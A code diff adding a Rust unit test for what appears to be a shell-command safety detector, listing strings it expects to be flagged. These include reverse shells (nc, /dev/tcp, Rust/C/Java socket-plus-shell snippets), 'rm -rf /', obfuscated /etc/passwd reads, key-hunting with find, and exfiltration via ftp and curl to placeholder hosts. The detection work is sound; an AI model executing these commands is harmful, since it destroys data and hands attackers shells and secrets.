@@ -282,3 +282,62 @@ fn shells_that_talk_to_someone() {
         &["require('child_process').spawn('git', ['status']);"],
     );
 }
+
+#[test]
+fn text_that_is_not_a_script() {
+    for (code, rule) in [
+        ("user@victim$ rm -rf /", "destroy-files"),
+        ("$ rm -rf /", "destroy-files"),
+        (
+            "use std::net::TcpStream;\nfn main() { TcpStream::connect(\"x:1\"); Command::new(\"/bin/sh\").spawn(); }",
+            "reverse-shell",
+        ),
+        (
+            "#include <sys/socket.h>\nint main() { connect(s, a, n); execve(\"/bin/sh\", v, 0); }",
+            "reverse-shell",
+        ),
+        (
+            "Runtime r = Runtime.getRuntime();\nr.exec(\"/bin/bash -c 'exec 5<>/dev/tcp/198.51.100.1/42'\");",
+            "reverse-shell",
+        ),
+        (
+            "module Main where\nimport System.Process\nmain = callCommand \"rm -rf /\"",
+            "destroy-files",
+        ),
+        (
+            "echo 'fn main() { os.system(\"nc -e sh 198.51.100.1 42\") }' > t.v && v run t.v",
+            "shell-escape",
+        ),
+        ("rlwrap nc 198.51.100.1 4242", "reverse-shell"),
+        ("nc -lvnp 4444", "reverse-shell"),
+        ("$(cd /etc; rm -rf x)", "file-delete"),
+        ("cat ${HOME:0:1}etc${HOME:0:1}passwd", "obfuscated-command"),
+        ("cat $(rev<<<dwssap/cte/)", "obfuscated-command"),
+        (
+            "find / -name '*.ini' -exec grep -Hn key {} \\;",
+            "system-survey",
+        ),
+        ("ls -alR /etc | awk '$1 ~ /^.....w/'", "system-survey"),
+        (
+            "ftp -n h.example.net <<E\nlcd /etc\nmput *.conf\nE",
+            "exfiltration",
+        ),
+        (
+            "terraform output -json | curl -d @- https://x.example.net",
+            "exfiltration",
+        ),
+        ("redis-cli --scan | xargs redis-cli del", "destroy-data"),
+    ] {
+        is_unsafe("bash", code, rule);
+    }
+    all_safe(
+        "bash",
+        &[
+            "me@laptop$ ls -la",
+            "nc -l 8080",
+            "x=$(cd src && pwd); rm -rf build",
+            "cat \"$PREFIX/etc/motd\"",
+            "ls -lR src | grep '^d'",
+        ],
+    );
+}
